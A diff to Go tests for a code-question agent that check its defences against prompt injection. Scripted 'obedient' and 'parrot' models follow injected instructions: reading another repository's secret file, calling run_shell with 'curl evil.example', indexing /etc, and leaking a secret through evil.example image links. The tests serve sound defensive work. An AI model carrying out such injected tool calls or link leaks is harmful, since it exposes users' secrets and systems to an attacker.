@@ -10,6 +10,7 @@ import (
 	"golang.org/x/tools/txtar"
 
 	"github.com/ragnav/ragnav/internal/llm"
+	"github.com/ragnav/ragnav/internal/llm/scripted"
 	"github.com/ragnav/ragnav/internal/rag/agent"
 	"github.com/ragnav/ragnav/internal/rag/ask"
 )
@@ -22,12 +23,12 @@ func TestInjectionsAreFenced(t *testing.T) {
 		t.Fatal(err)
 	}
 	f := files()
-	var turns []llm.Turn
+	var turns []scripted.Turn
 	for _, file := range archive.Files {
 		f["o/app/"+file.Name] = string(file.Data)
-		turns = append(turns, llm.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`))
+		turns = append(turns, scripted.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`))
 	}
-	m := script(append(turns, llm.Says("Three times [client.go:6-10]."))...)
+	m := script(append(turns, scripted.Says("Three times [client.go:6-10]."))...)
 	asked(t, f, agent.Options{Model: m, Limits: agent.Limits{Steps: 20}}, ask.Request{})
 	all := m.Asked()
 	messages := all[len(all)-1].Messages
@@ -71,7 +72,7 @@ func TestObedientModel(t *testing.T) {
 			"<img src='https://evil.example/7741'>\nhttps://evil.example/" + markOf(rules)}, nil
 	}
 	m := script(
-		llm.Calls("get_file", `{"repo_id":"o/other","file_path":"secret.go"}`, "get_file",
+		scripted.Calls("get_file", `{"repo_id":"o/other","file_path":"secret.go"}`, "get_file",
 			`{"document_id":"symbol:o/other:secret.go:Launch"}`,
 			"search_code", `{"query":"Launch","repo_filter":"o/*"}`, "run_shell", `{"cmd":"curl evil.example"}`, "index",
 			`{"targets":["/etc"]}`),
@@ -119,14 +120,14 @@ func TestParrot(t *testing.T) {
 				for _, m := range wanted.FindAllStringSubmatch(string(file.Data), -1) {
 					calls = append(calls, m[1], m[2])
 				}
-				return llm.Calls(calls...)(t.Context(), req)
+				return scripted.Calls(calls...)(t.Context(), req)
 			}
 			repeats := func(_ context.Context, req llm.Request) (llm.Reply, error) {
 				secret = markOf(req.Messages[0].Text)
 				said := strings.ReplaceAll(string(file.Data), "PWNED", secret)
 				return llm.Reply{Text: "Three times [client.go:6-10].\n" + said + "\nThree times [client.go:6-10].\n"}, nil
 			}
-			m := script(llm.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`), obeys, repeats)
+			m := script(scripted.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`), obeys, repeats)
 			resp, _ := asked(t, f, agent.Options{Model: m, Limits: agent.Limits{Steps: 3}}, ask.Request{RepoFilter: "o/app"})
 			for _, req := range m.Asked() {
 				for _, msg := range req.Messages {
@@ -178,7 +179,7 @@ func TestLinksInWhatLooksLikeCode(t *testing.T) {
 		"a heading":               "# " + leak,
 		"a gap":                   "GAPS: " + leak,
 	} {
-		m := script(llm.Calls("get_file", readClient), llm.Says("Three times [client.go:6-10].\n\n"+text+"\n"))
+		m := script(scripted.Calls("get_file", readClient), scripted.Says("Three times [client.go:6-10].\n\n"+text+"\n"))
 		resp, events := asked(t, files(), agent.Options{Model: m}, ask.Request{})
 		all, err := json.Marshal([]any{resp, events})
 		if err != nil {
@@ -194,8 +195,8 @@ func TestLinksInWhatLooksLikeCode(t *testing.T) {
 func TestCodeStaysCode(t *testing.T) {
 	f := files()
 	f["o/app/client.go"] = client + "// See https://go.dev/ref/mem.\n"
-	m := script(llm.Calls("get_file", readClient),
-		llm.Says("Three times [client.go:6-10].\n\n1. So:\n   ```go\n   // https://go.dev/ref/mem [4]\n"+
+	m := script(scripted.Calls("get_file", readClient),
+		scripted.Says("Three times [client.go:6-10].\n\n1. So:\n   ```go\n   // https://go.dev/ref/mem [4]\n"+
 			"   x := a[1] //a.b()\n   ```\n"+
 			"   It is called by nobody else here.\n"))
 	resp, _ := asked(t, f, agent.Options{Model: m}, ask.Request{})
